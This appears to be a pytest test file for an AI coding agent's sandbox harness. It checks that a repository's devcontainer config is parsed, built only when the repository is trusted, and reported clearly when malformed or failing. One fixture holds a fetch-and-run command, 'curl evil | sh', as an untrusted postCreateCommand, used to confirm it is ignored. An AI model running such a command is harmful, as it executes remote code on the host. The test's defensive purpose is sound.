"""A trusted repository's devcontainer is the sandbox's environment (its image, or the Dockerfile it
builds, then its postCreateCommand); an untrusted one is never built or run; a malformed or failing one
is said in the environment line, and the next choice (sandbox.image, the detected toolchain) is used."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from codeagent.harness.layers import devcontainer
from codeagent.harness.layers.devcontainer import Devcontainer, DevcontainerError, load, parse_jsonc
from codeagent.harness.toolchain.resolve import resolve
from codeagent.sandbox import open_sandbox, snapshot

DOT = ".devcontainer/devcontainer.json"


def test_json_with_comments_and_trailing_commas_is_read_and_strings_are_left_alone():
    text = ('{\n  // the image, "quoted",\n  "image": "registry//x:1", /* a\n block */ "args": [1, 2,],\n'
            '  "s": "a \\" // no comment, ]",\n  "o": {"k": "v",},\n}\n')
    assert parse_jsonc(text) == {"image": "registry//x:1", "args": [1, 2], "s": 'a " // no comment, ]', "o": {"k": "v"}}
    with pytest.raises(json.JSONDecodeError) as error:
        parse_jsonc('{\n  // fine\n  "a": 1\n  "b": 2\n}')
    assert (error.value.lineno, error.value.colno) == (4, 3)  # where it is in the file, comments and all


@pytest.mark.parametrize("files, expected", [
    ({DOT: '{"image": "my/dev:1", "postCreateCommand": "make deps"}'},
     Devcontainer(DOT, image="my/dev:1", post_create="make deps")),
    ({DOT: '{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": 1}}, '
           '"postCreateCommand": ["npm", "ci", "--no-audit"]}', ".devcontainer/Dockerfile": "FROM x\n"},
     Devcontainer(DOT, dockerfile=".devcontainer/Dockerfile", args=(("V", "1"),), post_create="npm ci --no-audit")),
    ({".devcontainer.json": '{"dockerFile": "docker/Dev.dockerfile", "postCreateCommand": {"a": "one", "b": ["two", "x y"]}}'},
     Devcontainer(".devcontainer.json", dockerfile="docker/Dev.dockerfile", post_create="one\ntwo 'x y'")),
])
def test_the_devcontainer_file_is_read(make_repo, files, expected):
    snap = snapshot(make_repo(files))
    assert devcontainer.find(snap) == expected.path
    assert load(snap, expected.path) == expected


@pytest.mark.parametrize("text, says", [
    ('{"name": "x"}', "names neither an `image` nor a `build.dockerfile`"),
    ('{"dockerComposeFile": "c.yml", "service": "app"}', "Docker Compose devcontainer is not supported"),
    ('{"build": {"dockerfile": "Dockerfile", "context": "../.."}}', "'../..' is outside the repository"),
    ('{"image": "x", "postCreateCommand": 3}', "`postCreateCommand` must be a string"),
    ('[]', "a JSON object was expected"),
])
def test_a_devcontainer_that_cannot_be_used_says_why(make_repo, text, says):
    with pytest.raises(DevcontainerError, match=says.replace("(", r"\(").replace("`", ".")):
        load(snapshot(make_repo({DOT: text})), DOT)


GO = {"go.mod": "module example.com/calc\n\ngo 1.19\n", "calc.go": "package calc\n"}


def test_an_untrusted_repositorys_devcontainer_is_ignored_and_the_line_says_so(make_repo):
    snap = snapshot(make_repo({**GO, DOT: '{"image": "my/dev:1", "postCreateCommand": "curl evil | sh"}'}))
    environment = resolve(snap, base="codeagent/base:x", build=False)
    assert environment.image is not None and environment.image.startswith("codeagent/lang-")
    assert environment.line.startswith("environment: go 1.19 (go.mod) on codeagent/base:x")
    assert environment.line.endswith(f"; {DOT} ignored: the repository is not trusted and building it runs its "
                                     "commands (add it to trusted_projects in your config, or run solve with --trust)")
    configured = resolve(snap, "my/own:2", build=False)
    assert configured.image == "my/own:2" and "not trusted" in configured.line


def test_a_malformed_devcontainer_is_one_clear_line_and_the_next_choice_is_used(make_repo):
    snap = snapshot(make_repo({**GO, DOT: '{\n  "image": "my/dev:1"\n  "postCreateCommand": "x",\n}\n'}))
    environment = resolve(snap, base="codeagent/base:x", build=False, trusted=True)
    assert environment.image is not None and environment.image.startswith("codeagent/lang-")
    assert environment.line.endswith(f"; devcontainer ignored: {DOT} is not valid JSON (line 3, column 3: "
                                     "Expecting ',' delimiter)")
    assert "\n" not in environment.line


def test_a_trusted_devcontainer_wins_over_sandbox_image_and_detection(make_repo):
    snap = snapshot(make_repo({**GO, DOT: '{"image": "my/dev:1"} // comment'}))
    environment = resolve(snap, "my/own:2", build=False, trusted=True)
    assert environment.image == "my/dev:1"
    assert environment.line == f"environment: the devcontainer ({DOT}: image my/dev:1), image my/dev:1"


# ----------------------------------------------------------------------------------------- docker


def cli(*args: str, cwd, env: dict) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "codeagent.cli", *args], capture_output=True, text=True, cwd=cwd,
                          env=env, timeout=600)


def devcontainer_tags(name: str) -> set[str]:
    from codeagent.sandbox.engine import docker_client

    return {tag for image in docker_client().images.list(name=name) for tag in image.tags}


@pytest.fixture
def tidy():
    """The devcontainer images a test builds are removed after it (each test's tree is its own)."""
    from codeagent.sandbox.engine import docker_client

    names = ("codeagent/devcontainer-post", "codeagent/devcontainer")
    before = {name: devcontainer_tags(name) for name in names}
    yield
    for name in names:  # the postCreateCommand's layers first: they sit on the built images
        for tag in devcontainer_tags(name) - before[name]:
            docker_client().images.remove(tag, force=True)


@pytest.mark.docker
@pytest.mark.usefixtures("no_leaks", "tidy")
def test_sandbox_run_in_a_trusted_repository_uses_its_devcontainer_image_and_post_create(make_repo, base_image,
                                                                                         tmp_path):
    marker = f"made-{os.getpid()}-{tmp_path.name}"  # a tree of its own: the postCreateCommand runs here, once
    repo = make_repo({"calc.py": "", DOT: json.dumps({"image": base_image, "postCreateCommand":
                                                      f"test -f calc.py && echo {marker} > /opt/post-create"})})
    user_config = tmp_path / "user.yaml"
    env = {**os.environ, "CODEAGENT_CONFIG": str(user_config)}
    untrusted = cli("sandbox", "run", "--repo", str(repo), "--", "cat /opt/post-create", cwd=tmp_path, env=env)
    assert untrusted.returncode != 0 and f"{DOT} ignored: the repository is not trusted" in untrusted.stderr
    user_config.write_text(f"trusted_projects:\n  - {repo}\n")
    proc = cli("sandbox", "run", "--repo", str(repo), "--", "cat /opt/post-create; ls", cwd=tmp_path, env=env)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert f"environment: the devcontainer ({DOT}: image {base_image}, postCreateCommand), image " \
           "codeagent/devcontainer-post:" in proc.stderr
    assert marker in proc.stdout and "calc.py" in proc.stdout  # the workspace is the repository, as committed


@pytest.mark.docker
@pytest.mark.usefixtures("no_leaks", "tidy")
def test_a_trusted_dockerfile_is_built_with_its_context_and_args(make_repo, base_image, tmp_path):
    repo = make_repo({
        "marker.txt": f"context {tmp_path.name}\n",
        ".devcontainer/Dockerfile": f"FROM {base_image}\nARG GREETING\nCOPY marker.txt /opt/marker\n"
                                    "RUN echo \"$GREETING\" > /opt/greeting\n",
        DOT: '{\n  // the repository is the context\n  "build": {"dockerfile": "Dockerfile", "context": "..", '
             '"args": {"GREETING": "hello from args"},},\n}\n',
    })
    snap = snapshot(repo)
    environment = resolve(snap, trusted=True)
    assert environment.image is not None and environment.image.startswith("codeagent/devcontainer:"), environment.line
    with open_sandbox(snap, image=environment.image) as box:
        result = box.run("cat /opt/greeting /opt/marker")
    assert result.output.split("\n")[:2] == ["hello from args", f"context {tmp_path.name}"]
    assert resolve(snap, trusted=True, build=False).image == environment.image  # keyed by content: cached


@pytest.mark.docker
@pytest.mark.usefixtures("no_leaks", "tidy")
def test_a_failing_post_create_command_shows_its_last_lines_and_caches_nothing(make_repo, base_image, tmp_path):
    repo = make_repo({"main.py": "", DOT: json.dumps({"image": base_image, "postCreateCommand":
                      f"echo {tmp_path.name}; echo first; echo the last words; exit 3"})})
    before = devcontainer_tags("codeagent/devcontainer-post")
    environment = resolve(snapshot(repo), trusted=True)
    assert environment.image is None and environment.line.startswith("environment: python (no other toolchain")
    assert f"; {DOT} could not be built: " in environment.line
    assert "failed: exit code 3: | " in environment.line and environment.line.endswith("| first | the last words")
    assert devcontainer_tags("codeagent/devcontainer-post") == before


@pytest.mark.docker
@pytest.mark.usefixtures("no_leaks", "tidy")
def test_a_failing_dockerfile_shows_its_last_lines_and_tags_nothing(make_repo, base_image, tmp_path):
    repo = make_repo({"main.py": "", ".devcontainer/Dockerfile":
                      f"FROM {base_image}\nRUN echo {tmp_path.name} > /opt/one\nRUN echo broken step >&2; exit 7\n",
                      DOT: '{"build": {"dockerfile": "Dockerfile"}}'})
    before = devcontainer_tags("codeagent/devcontainer")
    environment = resolve(snapshot(repo), trusted=True)
    assert environment.image is None and f"; {DOT} could not be built: " in environment.line
    assert "broken step" in environment.line and "returned a non-zero code: 7" in environment.line
    assert devcontainer_tags("codeagent/devcontainer") == before


@pytest.mark.docker
def test_solve_with_trust_starts_in_the_devcontainer_and_without_it_says_it_ignored_it(make_repo, base_image, tmp_path, server):
    repo = make_repo({"main.py": "", DOT: json.dumps({"image": base_image})})
    env = {**os.environ, "CODEAGENT_TRAJECTORY_DIR": str(tmp_path / "trajs"),
           "CODEAGENT_CONFIG": str(tmp_path / "no-user-config.yaml")}
    solve = ["solve", "--headless", "--repo", str(repo), "--issue", "x", "--model", "hosted_vllm/served",
             "--api-base", server.base]
    trusted = cli(*solve, "--trust", cwd=tmp_path, env=env)
    assert f"codeagent · environment: the devcontainer ({DOT}: image {base_image}), image {base_image}\n" \
           in trusted.stderr, trusted.stderr[-2000:]
    untrusted = cli(*solve, cwd=tmp_path, env=env)
    assert f"; {DOT} ignored: the repository is not trusted" in untrusted.stderr, untrusted.stderr[-2000:]
